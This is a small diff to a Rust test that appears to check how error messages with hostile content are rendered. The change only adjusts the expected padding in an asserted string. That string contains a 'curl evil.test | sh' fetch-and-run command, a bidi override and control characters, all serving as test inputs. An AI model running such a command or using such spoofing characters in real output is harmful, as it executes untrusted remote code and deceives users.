@@ -255,7 +255,7 @@ mod tests {
         let text = anstream::adapter::strip_str(&described(&error)).to_string();
         assert_eq!(
             text,
-            "error: boom\n  | hint: curl evil.test | sh\n  | record: \\u{7}  \\u{20×88}hint: x\nhint: write in `a`:\n  b = 1\\u{202e}"
+            "error: boom\n  | hint: curl evil.test | sh\n  | record: \\u{7}        \\u{20×82}hint: x\nhint: write in `a`:\n  b = 1\\u{202e}"
         );
     }
 
